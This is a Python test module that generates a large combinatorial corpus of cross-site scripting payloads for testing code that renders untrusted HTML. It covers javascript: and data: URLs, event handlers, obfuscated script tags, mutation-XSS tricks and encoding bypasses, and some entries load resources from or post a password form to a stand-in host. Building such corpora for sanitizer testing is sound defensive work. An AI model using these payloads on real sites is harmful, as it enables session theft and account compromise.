"""Hostile HTML, made by combining the known families of attacks: whoever shows HTML of strangers tests with these."""

SCRIPT = "alert(1)"
_ADDRESSES = [
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" javascript:{SCRIPT}",
    f"\x01javascript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\0script:{SCRIPT}",
    f"java&#10;script:{SCRIPT}",
    f"java&Tab;script:{SCRIPT}",
    f"javascript&colon;{SCRIPT}",
    f"&#106;avascript:{SCRIPT}",
    f"&#0000106avascript:{SCRIPT}",
    f"&#x6A;avascript:{SCRIPT}",
    f"&#x000006Aavascript:{SCRIPT}",
    f"javascript://example.com/%0a{SCRIPT}",
    f"feed:javascript:{SCRIPT}",
    f"view-source:javascript:{SCRIPT}",
    f"vbscript:msgbox({SCRIPT})",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "blob:https://example.com/x",
    "filesystem:https://example.com/x",
    "file:///etc/passwd",
    "ftp://example.com/x",
    "//canary.example/x",
    "\\\\canary.example\\x",
    "/logout/",
    "?next=//canary.example",
    "cid:unknown",
    "tel",
]
_WITH_ADDRESS = [
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<img src="{}">',
    '<image xlink:href="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<base href="{}"><a href="x">x</a>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<meta http-equiv="refresh" content="0; url={}">',
]
_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onbegin",
    "ontoggle",
    "onpointerdown",
    "ONERROR",
]
_WITH_HANDLER = [
    "<img src=x {}=alert(1)>",
    '<img src="x" alt="" {}="alert(1)">',
    "<img/src=x/{}=alert(1)>",
    "<p {}=alert(1)>x</p>",
    "<a href='https://example.com' {}='alert(1)'>x</a>",
    "<td {}=alert(1)>x",
    "<svg {}=alert(1)><animate {}=alert(1)></svg>",
    "<math {}=alert(1)><mi>x</mi></math>",
    "<body {}=alert(1)>",
    "<input autofocus {}=alert(1)>",
    "<video><source {}=alert(1)></video>",
    "<details open {}=alert(1)><summary>x</summary></details>",
    "<x {}=alert(1) tabindex=1>x</x>",
]
_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//canary.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/y>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- x -->ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<math><mtext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<applet code=x></applet>",
    "<style>@import '//canary.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=//canary.example/x.css>",
    "<link rel=import href=//canary.example/x>",
    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<plaintext><script>alert(1)</script>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    '<p style="width:expression(alert(1))">x</p>',
    "<p class=overlay id=login name=csrf>x</p>",
    "<img srcset='//canary.example/x 2x'>",
    "<img src=x:alert(1) lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<picture><source srcset=//canary.example/x><img></picture>",
    "<video poster=//canary.example/x><track src=//canary.example/y></video>",
    "<audio src=//canary.example/x autoplay></audio>",
    "<div hx-get=/logout/ hx-trigger=load>x</div>",
    "<div data-hx-post=/x data-hx-on='alert(1)'>x</div>",
    "<a href='https://example.com' target=_blank rel=opener ping=//canary.example>x</a>",
    "<form action=//canary.example><input name=password><select><option>x</select><textarea>y</textarea></form>",
    "<input type=image src=//canary.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=javascript:alert(1)></portal>",
    "<dialog open><form method=dialog></form></dialog>",
    "<slot name=x><custom-element is=x></custom-element></slot>",
]
# What parsers put together differently from what it looks like (mutation).
_CARRIERS = ["noscript", "noembed", "noframes", "title", "textarea", "xmp", "style", "iframe", "select", "template"]
_MUTATIONS = (
    [f'<{name}><p title="</{name}><img src=x onerror=alert(1)>">' for name in _CARRIERS]
    + [f'<svg></p><{name}><a id="</{name}><img src=1 onerror=alert(1)>">' for name in _CARRIERS]
    + [
        f'<math><mtext><table><mglyph><{name}><!--</{name}><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        for name in _CARRIERS
    ]
    + [f"<form><math><mtext></form><form><mglyph><{name}></math><img src onerror=alert(1)>" for name in _CARRIERS]
    + [f"<table><tr><td><{name}><table><{name}><img src=x onerror=alert(1)>" for name in _CARRIERS]
)
_QUOTES = [
    '<a href="https://example.com" title="x"onmouseover="alert(1)">x</a>',
    "<a href=\"https://example.com' onclick='alert(1)\">x</a>",
    '<img alt="><script>alert(1)</script>">',
    "<img alt='\"><img src=x onerror=alert(1)>'>",
    "<img alt=`><script>alert(1)</script>`>",
    '<a title="&quot;><script>alert(1)</script>" href=https://example.com>x</a>',
    '<a href="https://example.com/&quot; onclick=&quot;alert(1)">x</a>',
    '<img """><script>alert(1)</script>">',
    '<p "<script>alert(1)</script>">',
    "<p a='>' onclick=alert(1)>x</p>",
    "<p a=\"'>\" onclick=alert(1) b='\">'>x</p>",
    "<b/onclick=alert(1)//>x",
    "<b\x0conclick=alert(1)>x",
    "<b\x0bonclick=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u02bcscript\u02bdalert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

PAYLOADS = (
    [shape.format(address) for shape in _WITH_ADDRESS for address in _ADDRESSES]
    + [shape.replace("{}", handler) for shape in _WITH_HANDLER for handler in _HANDLERS]
    + _SCRIPTS
    + _MUTATIONS
    + _QUOTES
)
